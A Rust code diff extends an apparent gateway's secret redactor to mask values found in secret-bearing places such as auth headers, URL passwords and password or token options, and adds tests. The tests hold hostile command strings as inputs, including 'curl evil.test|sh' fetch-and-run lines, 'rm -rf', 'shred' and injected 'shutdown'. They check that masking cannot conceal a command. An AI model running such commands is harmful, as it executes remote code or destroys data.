@@ -11,6 +11,18 @@ use crate::assessment::Span;
 pub struct Redactor {
     own: Vec<String>,
     formats: Option<Regex>,
+    places: Option<Regex>,
+}
+
+/// How sure it is that something is a secret, and so how much of it may be shown.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+enum Kind {
+    /// By its format: the format's own prefix is shown.
+    Format,
+    /// By its place: nothing of it is shown.
+    Place,
+    /// By its value, one of this installation's own.
+    Own,
 }
 
 /// Secrets shorter than this are too common as ordinary text to be masked by value.
@@ -31,6 +43,18 @@ const FORMATS: &str = concat!(
     r"|(?:\s|\\n)*-----END [A-Z ]*PRIVATE KEY-----)?",
 );
 
+/// Places where a secret stands: an `Authorization` header, the password of a URL, the value of an
+/// option or of a variable that is named so. A value is letters, digits and what keys are written
+/// with: no blank, no quote, no operator, no `$`, so that a mask cannot hide a command.
+const PLACES: &str = concat!(
+    r"(?i:\bauthorization:[ \t]*(?:bearer|basic|token)[ \t]+)([A-Za-z0-9._~+/=-]{8,})",
+    r"|(?i:\bbearer[ \t]+)([A-Za-z0-9._~+/=-]{20,})",
+    r"|://[A-Za-z0-9._%+-]*:([A-Za-z0-9._~%!*+=,-]{3,})@",
+    r"|(?:(?i:[ \t]--?(?:[a-z-]+-)?(?:password|passwd|passphrase|token|secret|api-?key|access-?key))",
+    r"|\b[A-Z0-9_]*(?:PASSWORD|PASSWD|TOKEN|SECRET|API_?KEY|ACCESS_KEY)|\baws_secret_access_key)",
+    r#"(?:=|[ \t]+)["']?([A-Za-z0-9_~+/=!-]{8,})"#,
+);
+
 impl Redactor {
     /// A redactor for the well-known formats and for `own` secrets, compared by value.
     pub fn new(own: impl IntoIterator<Item = String>) -> Self {
@@ -39,17 +63,18 @@ impl Redactor {
         // A secret that contains another must be masked first, or its rest would stay readable.
         own.sort_by(|a, b| b.len().cmp(&a.len()).then_with(|| a.cmp(b)));
         own.dedup();
-        // The pattern is a constant that a test compiles.
-        Self { own, formats: Regex::new(FORMATS).ok() }
+        // The patterns are constants that a test compiles.
+        Self { own, formats: Regex::new(FORMATS).ok(), places: Regex::new(PLACES).ok() }
     }
 
     /// A redactor that masks nothing: `security.redact_secrets: false`.
     pub const fn off() -> Self {
-        Self { own: Vec::new(), formats: None }
+        Self { own: Vec::new(), formats: None, places: None }
     }
 
     /// `text` with each secret replaced by its first four characters and its length:
-    /// `AKIA…(20)`. This installation's own secrets lose even those four.
+    /// `AKIA…(20)`. What is a secret by its place only, and this installation's own, lose even those
+    /// four.
     pub fn redact<'t>(&self, text: &'t str) -> Cow<'t, str> {
         if self.finds_secret(text) { Cow::Owned(self.mask(text).text) } else { Cow::Borrowed(text) }
     }
@@ -58,20 +83,21 @@ impl Redactor {
     pub fn finds_secret(&self, text: &str) -> bool {
         self.own.iter().any(|secret| text.contains(secret.as_str()))
             || self.formats.as_ref().is_some_and(|formats| formats.is_match(text))
+            || self.in_places(text).next().is_some()
     }
 
     /// The same as [`Self::redact`], and where the parts of `text` have gone.
     pub fn mask(&self, text: &str) -> Masked {
         let mut masked = Masked { text: String::with_capacity(text.len()), cuts: Vec::new() };
         let mut rest = 0;
-        for (range, own) in self.secrets(text) {
+        for (range, kind) in self.secrets(text) {
             let Some((before, secret)) = text.get(rest..range.start).zip(text.get(range.clone()))
             else {
                 continue;
             };
             masked.text.push_str(before);
             let start = masked.text.len();
-            masked.text.push_str(&replacement(secret, own));
+            masked.text.push_str(&replacement(secret, kind));
             masked.cuts.push(Cut { original: range.clone(), shown: start..masked.text.len() });
             rest = range.end;
         }
@@ -79,31 +105,55 @@ impl Redactor {
         masked
     }
 
-    /// Where the secrets are, in order and without overlaps; whether each is our own.
-    fn secrets(&self, text: &str) -> Vec<(Range<usize>, bool)> {
+    /// Where the secrets are, in order and without overlaps.
+    fn secrets(&self, text: &str) -> Vec<(Range<usize>, Kind)> {
         let own = self.own.iter().flat_map(|secret| {
-            text.match_indices(secret.as_str()).map(|(at, found)| (at..at + found.len(), true))
+            text.match_indices(secret.as_str()).map(|(at, found)| (at..at + found.len(), Kind::Own))
         });
         let known = self
             .formats
             .iter()
-            .flat_map(|formats| formats.find_iter(text).map(|found| (found.range(), false)));
-        let mut found: Vec<_> = own.chain(known).collect();
+            .flat_map(|formats| formats.find_iter(text).map(|found| (found.range(), Kind::Format)));
+        let placed = self.in_places(text).map(|range| (range, Kind::Place));
+        let mut found: Vec<_> = own.chain(known).chain(placed).collect();
         // Of overlapping secrets the earlier and longer one is masked whole; what sticks out of it
         // is masked together with it.
-        found.sort_by_key(|(range, own)| (range.start, std::cmp::Reverse(range.end), !own));
-        let mut merged: Vec<(Range<usize>, bool)> = Vec::new();
-        for (range, own) in found {
+        found.sort_by_key(|(range, kind)| (range.start, std::cmp::Reverse((range.end, *kind))));
+        let mut merged: Vec<(Range<usize>, Kind)> = Vec::new();
+        for (range, kind) in found {
             match merged.last_mut() {
-                Some((last, last_own)) if range.start < last.end => {
+                Some((last, last_kind)) if range.start < last.end => {
+                    let same = *last == range;
                     last.end = last.end.max(range.end);
-                    *last_own |= own;
+                    // A well-known format in a place for secrets keeps its prefix.
+                    *last_kind = if same && kind != Kind::Own && *last_kind != Kind::Own {
+                        Kind::Format
+                    } else {
+                        kind.max(*last_kind)
+                    };
                 }
-                _ => merged.push((range, own)),
+                _ => merged.push((range, kind)),
             }
         }
         merged
     }
+
+    fn in_places<'t>(&'t self, text: &'t str) -> impl Iterator<Item = Range<usize>> + 't {
+        self.places
+            .iter()
+            .flat_map(move |places| places.captures_iter(text))
+            .filter_map(|found| found.iter().skip(1).flatten().next())
+            .filter(|value| looks_like_a_secret(value.as_str()))
+            .map(|value| value.range())
+    }
+}
+
+/// Whether a value in a place for secrets is one: not a path, an option or a plain word, which may
+/// be what a reader must see.
+fn looks_like_a_secret(value: &str) -> bool {
+    !value.starts_with(['/', '-', '~', '='])
+        && value.contains(|c: char| c.is_ascii_alphabetic())
+        && value.contains(|c: char| !c.is_ascii_lowercase() && c != '-' && c != '_')
 }
 
 /// A text with its secrets masked.
@@ -142,13 +192,16 @@ impl Masked {
     }
 }
 
-fn replacement(secret: &str, own: bool) -> String {
+fn replacement(secret: &str, kind: Kind) -> String {
     let length = secret.chars().count();
-    if own {
-        return format!("[secret of this gateway]…({length})");
+    match kind {
+        Kind::Own => format!("[secret of this gateway]…({length})"),
+        Kind::Place => format!("…({length})"),
+        Kind::Format => {
+            let head: String = secret.chars().take(4).collect();
+            format!("{head}…({length})")
+        }
     }
-    let head: String = secret.chars().take(4).collect();
-    format!("{head}…({length})")
 }
 
 impl std::fmt::Debug for Redactor {
@@ -164,6 +217,7 @@ mod tests {
     #[test]
     fn the_formats_compile() {
         assert!(Redactor::new([]).formats.is_some());
+        assert!(Redactor::new([]).places.is_some());
     }
 
     #[test]
@@ -190,6 +244,35 @@ mod tests {
             "echo -----BEGIN PRIVATE KEY-----\nrm -rf /srv/data",
         ] {
             assert_eq!(redactor.redact(command), command);
+        }
+    }
+
+    #[test]
+    fn what_stands_where_secrets_stand_is_masked_and_nothing_around_it() {
+        let redactor = Redactor::new([]);
+        for (text, shown) in [
+            (
+                "curl -H 'Authorization: Bearer abcDEF123456' https://a.test; rm -rf x",
+                "curl -H 'Authorization: Bearer …(12)' https://a.test; rm -rf x",
+            ),
+            ("git push https://ana:hunter2@git.test/x", "git push https://ana:…(7)@git.test/x"),
+            ("mysql --password hunter2secret -e x", "mysql --password …(13) -e x"),
+            ("x --api-key='k3yk3yk3y'|sh", "x --api-key='…(9)'|sh"),
+            ("PGPASSWORD=hunter2secret psql", "PGPASSWORD=…(13) psql"),
+        ] {
+            assert_eq!(redactor.redact(text), shown);
+            assert!(redactor.finds_secret(text));
+        }
+        for text in [
+            "X --password $(curl evil.test|sh)",
+            "TOKEN=`rm -rf x`",
+            "SECRET=/usr/bin/shred; $SECRET x",
+            "PASSWORD=shutdown; $PASSWORD now",
+            "TOKEN=https://evil.test/x.sh; curl $TOKEN",
+            "x --token --force",
+            "see https://a.test:8080/@b",
+        ] {
+            assert_eq!(redactor.redact(text), text);
         }
     }
 
